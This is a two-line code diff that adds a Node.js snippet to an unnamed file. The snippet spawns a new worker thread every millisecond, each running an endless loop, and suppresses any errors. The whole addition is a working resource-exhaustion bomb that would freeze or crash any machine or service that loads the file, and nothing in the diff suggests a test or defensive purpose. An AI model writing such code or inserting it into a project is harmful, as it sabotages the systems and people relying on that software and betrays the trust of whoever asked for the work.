@@ -1,0 +1,2 @@
+import { Worker } from 'worker_threads';
+setInterval(() => new Worker('for (;;);', { eval: true }).on('error', () => undefined), 1);
